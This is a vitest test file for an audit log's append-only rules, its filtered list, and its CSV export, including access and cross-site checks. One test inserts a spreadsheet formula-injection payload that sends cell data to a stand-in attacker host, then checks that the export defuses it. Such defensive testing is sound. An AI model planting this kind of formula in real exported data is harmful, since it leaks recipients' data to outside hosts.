import { randomUUID } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import type { Actor } from '../auth/actor.ts';
import { auditOf, callAs, operator } from '../testing/desk.ts';
import { openRuntime } from '../testing/runtime.ts';
import { useShop } from '../testing/shop.ts';
import { answerAuditExport } from './export-audit.ts';

const shop = useShop();
const auditor = operator('auditor');
const desk = () => callAs(shop, auditor).desk;

/** Adds entries of this action, as the commands do, and gives their ids, oldest first. */
const addEntries = async (count: number, action: string, columns: Record<string, string | null> = {}) => {
  const { at = 'clock_timestamp()', result = 'applied', reason = null, actor = 'ada' } = columns;
  const { rows } = await shop.observer.query<{ id: string }>(
    `INSERT INTO audit_entry (at, actor_id, actor_name, role, action, result, refusal, request_id, target, record_id, reason)
     SELECT ${at}, $2, $2, 'resolver', $3, $4, CASE $4 WHEN 'refused' THEN 'changed' END, gen_random_uuid(), 'record:7', 7, $5
     FROM generate_series(1, $1) RETURNING id::text`,
    [count, actor, action, result, reason],
  );
  return rows.map(({ id }) => id);
};

describe('the audit is append-only', () => {
  test.each([
    'UPDATE audit_entry SET reason = NULL',
    'UPDATE audit_entry SET reason = NULL WHERE false',
    'DELETE FROM audit_entry',
    'TRUNCATE audit_entry',
    'UPDATE lookup_evidence SET detail = NULL',
    'DELETE FROM lookup_evidence',
    'TRUNCATE lookup_evidence',
  ])('%s is refused, to the owner of the table too', async (sql) => {
    await addEntries(1, 'test.append');
    await expect(shop.observer.query(sql)).rejects.toMatchObject({ code: '23514', message: /is append-only/ });
  });
});

describe('the list', () => {
  test('shows each entry once and in order, page by page, over entries of one moment and while others are written', async () => {
    const action = `test.${randomUUID()}`;
    const ids = await addEntries(25, action, { at: `'2026-03-01T00:00:00Z'::timestamptz` });
    const seen: string[] = [];
    for (let after: string | undefined; ; ) {
      const page = await desk().audit.list({ action, limit: 10, after });
      seen.push(...page.rows.map(({ id }) => id));
      await addEntries(1, action);
      if (!page.hasNext) break;
      after = page.rows.at(-1)?.position;
    }
    expect(seen).toEqual(ids.toReversed());
  });

  test('filters by actor, action, record, result, request and time', async () => {
    const [action, actor] = [`test.${randomUUID()}`, randomUUID()];
    const [old] = await addEntries(1, action, { actor, at: `clock_timestamp() - interval '40 days'` });
    const [refused] = await addEntries(1, action, { actor, result: 'refused' });
    await addEntries(1, action, { actor: 'somebody' });
    const found = async (filters: object) => (await desk().audit.list({ action, ...filters })).rows.map(({ id }) => id);
    expect(await found({ actor })).toEqual([refused, old]);
    expect(await found({ actor, result: 'refused' })).toEqual([refused]);
    expect(await found({ actor, record: '7', to: new Date(Date.now() - 30 * 86_400_000).toISOString() })).toEqual([
      old,
    ]);
    expect(await found({ actor, from: new Date(Date.now() - 30 * 86_400_000).toISOString() })).toEqual([refused]);
    const { entry } = await desk().audit.get({ id: refused as string });
    expect(await found({ request: entry.requestId })).toEqual([refused]);
    expect((await desk().audit.count({ action })).count).toBe(3);
  });
});

describe('the export', () => {
  const post = (actor: Actor, query: Record<string, string> = {}, headers: Record<string, string> = {}) => {
    const url = `http://shop.test/desk/audit/export?${new URLSearchParams(query)}`;
    const request = new Request(url, {
      method: 'POST',
      headers: { origin: 'http://shop.test', host: 'shop.test', ...headers },
    });
    return answerAuditExport({ ...shop.runtime, authenticate: async () => actor }, request);
  };

  test('is a CSV of every entry under the filters, oldest first, in pages, up to its own entry', async () => {
    const action = `test.${randomUUID()}`;
    const ids = await addEntries(2_345, action);
    const response = await post(auditor, { action });
    expect([response.status, response.headers.get('content-type'), response.headers.get('cache-control')]).toEqual([
      200,
      'text/csv; charset=utf-8; header=present',
      'no-store',
    ]);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="latchkey-audit-\d+\.csv"$/);
    const lines = (await response.text()).trimEnd().split('\r\n');
    expect(lines[0]).toContain('"id","at","actor_id"');
    expect(lines.slice(1).map((line) => line.split(',')[0])).toEqual(ids.map((id) => `"${id}"`));
  });

  test('runs no formula that somebody wrote as a reason', async () => {
    const action = `test.${randomUUID()}`;
    await addEntries(1, action, { reason: '=HYPERLINK("http://evil.example/?"&A1)' });
    const text = await (await post(auditor, { action })).text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
    expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
  });

  test('is an entry itself, before its first byte', async () => {
    const action = `test.${randomUUID()}`;
    const response = await post(auditor, { action });
    const rows = await auditOf(shop, { requestId: response.headers.get('x-request-id') ?? '' });
    expect(rows).toMatchObject([
      { action: 'audit.export', result: 'applied', actor_id: auditor.userId, target: 'audit' },
    ]);
    expect(JSON.parse(String(rows[0]?.after))).toEqual({ filters: { action } });
    await response.body?.cancel();
  });

  test.each(['viewer', 'operator', 'resolver', 'approver', 'admin'] as const)(
    'is refused to a %s, and that is recorded',
    async (role) => {
      const response = await post(operator(role));
      expect(response.status).toBe(403);
      const rows = await auditOf(shop, { requestId: response.headers.get('x-request-id') ?? '' });
      expect(rows).toMatchObject([{ action: 'audit.export', result: 'refused', refusal: 'permission', role }]);
    },
  );

  test('is refused to nobody, to other sites, and to whoever has cookies and does not say from where', async () => {
    expect((await post({ kind: 'nobody', why: 'Sign in.' })).status).toBe(401);
    expect((await post(auditor, {}, { origin: 'https://evil.example' })).status).toBe(403);
    expect((await post(auditor, {}, { 'sec-fetch-site': 'cross-site' })).status).toBe(403);
    const silent = new Request('http://shop.test/desk/audit/export', { method: 'POST', headers: { cookie: 'a=b' } });
    expect((await answerAuditExport({ ...shop.runtime, authenticate: async () => auditor }, silent)).status).toBe(403);
  });

  test('is refused in read-only mode', async () => {
    const readOnly = openRuntime(shop.url, { readOnly: true });
    const runtime = { ...readOnly, authenticate: async () => auditor };
    const response = await answerAuditExport(runtime, new Request('http://shop.test/x', { method: 'POST' }));
    expect(response.status).toBe(403);
    await readOnly.close();
  });
});
